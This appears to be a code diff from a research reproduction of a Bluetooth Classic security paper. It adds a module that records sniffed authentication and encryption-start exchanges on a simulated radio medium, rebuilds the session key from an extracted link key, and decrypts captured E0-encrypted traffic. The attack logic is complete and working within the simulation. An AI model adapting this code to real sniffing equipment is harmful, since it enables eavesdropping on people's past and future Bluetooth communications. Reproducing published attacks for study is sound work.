@@ -1,0 +1,140 @@
+"""Offline decryption of sniffed traffic with an extracted link key.
+
+Paper §IV-C: "A would be able to decrypt not only the future, but also
+the past communications of M captured by air-sniffers using the key."
+
+The attack chain reproduced here:
+
+1. An :class:`AirCapture` passively records a session between C and M:
+   the LMP authentication (AU_RAND and the prover's SRES), the
+   encryption start (EN_RAND) and the E0-encrypted ACL frames.  All of
+   these travel in the clear or as ciphertext over the air.
+2. Later, the attacker extracts the bonded link key from C's HCI dump.
+3. :class:`OfflineDecryptor` replays the key schedule: ACO from
+   ``E1(link key, AU_RAND, prover address)``, Kc from ``E3(link key,
+   EN_RAND, ACO)``, then strips the E0 keystream off every captured
+   ACL frame.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import List, Optional
+
+from repro.core.errors import AttackError
+from repro.core.types import BdAddr, LinkKey
+from repro.controller import lmp
+from repro.crypto.e0 import e0_encrypt
+from repro.crypto.legacy import e1, e3, reduce_key_entropy
+from repro.phy.medium import AirFrame, RadioMedium
+
+
+@dataclass
+class CapturedFrame:
+    """One sniffed air frame."""
+
+    time: float
+    link_id: int
+    sender: str
+    frame: AirFrame
+
+
+@dataclass
+class AirCapture:
+    """A passive air sniffer parked near the victims."""
+
+    frames: List[CapturedFrame] = field(default_factory=list)
+
+    def attach(self, medium: RadioMedium) -> "AirCapture":
+        medium.add_air_sniffer(self._on_frame)
+        return self
+
+    def _on_frame(
+        self, time: float, link_id: int, sender: str, frame: AirFrame
+    ) -> None:
+        self.frames.append(CapturedFrame(time, link_id, sender, frame))
+
+    def lmp_frames(self, pdu_type: type) -> List[CapturedFrame]:
+        return [
+            captured
+            for captured in self.frames
+            if captured.frame.kind == "lmp"
+            and isinstance(captured.frame.payload, pdu_type)
+        ]
+
+    def encrypted_acl_frames(self) -> List[CapturedFrame]:
+        return [
+            captured
+            for captured in self.frames
+            if captured.frame.kind == "acl" and captured.frame.encrypted
+        ]
+
+
+class OfflineDecryptor:
+    """Rebuilds the session keys from a capture plus the link key."""
+
+    def __init__(
+        self,
+        capture: AirCapture,
+        link_key: LinkKey,
+        prover_addr: BdAddr,
+        master_addr: BdAddr,
+        master_name: str,
+        encryption_key_size: int = 16,
+    ) -> None:
+        self.capture = capture
+        self.link_key = link_key
+        self.prover_addr = prover_addr
+        self.master_addr = master_addr
+        self.master_name = master_name
+        self.encryption_key_size = encryption_key_size
+
+    def derive_kc(self) -> bytes:
+        """AU_RAND → ACO, EN_RAND → Kc, exactly as the controllers did."""
+        au_rands = self.capture.lmp_frames(lmp.LmpAuRand)
+        en_rands = self.capture.lmp_frames(lmp.LmpStartEncryption)
+        if not au_rands or not en_rands:
+            raise AttackError(
+                "capture lacks the authentication / encryption-start PDUs"
+            )
+        # The Kc that encrypted the session was derived from the ACO of
+        # the authentication that immediately preceded the encryption
+        # start — not from whatever challenge was sniffed last (e.g.
+        # the stalled one the extraction attack itself provokes later).
+        en_capture = en_rands[-1]
+        preceding = [f for f in au_rands if f.time <= en_capture.time]
+        if not preceding:
+            raise AttackError("no authentication precedes the encryption start")
+        au_rand = preceding[-1].frame.payload.rand
+        en_rand = en_capture.frame.payload.en_rand
+        _, aco = e1(self.link_key, au_rand, self.prover_addr)
+        kc = e3(self.link_key, en_rand, aco)
+        return reduce_key_entropy(kc, self.encryption_key_size)
+
+    def decrypt_all(self) -> List[bytes]:
+        """Strip E0 off every captured encrypted ACL frame, in order."""
+        kc = self.derive_kc()
+        plaintexts: List[bytes] = []
+        seq_by_direction = {1: 0, 2: 0}
+        for captured in self.capture.encrypted_acl_frames():
+            direction = 1 if captured.sender == self.master_name else 2
+            clock = direction << 24 | seq_by_direction[direction]
+            seq_by_direction[direction] += 1
+            plaintexts.append(
+                e0_encrypt(
+                    kc, self.master_addr, clock, captured.frame.payload.data
+                )
+            )
+        return plaintexts
+
+    def try_wrong_key(self, wrong_key: LinkKey) -> Optional[List[bytes]]:
+        """Sanity control: a wrong key must not reproduce plaintext."""
+        decryptor = OfflineDecryptor(
+            self.capture,
+            wrong_key,
+            self.prover_addr,
+            self.master_addr,
+            self.master_name,
+            self.encryption_key_size,
+        )
+        return decryptor.decrypt_all()
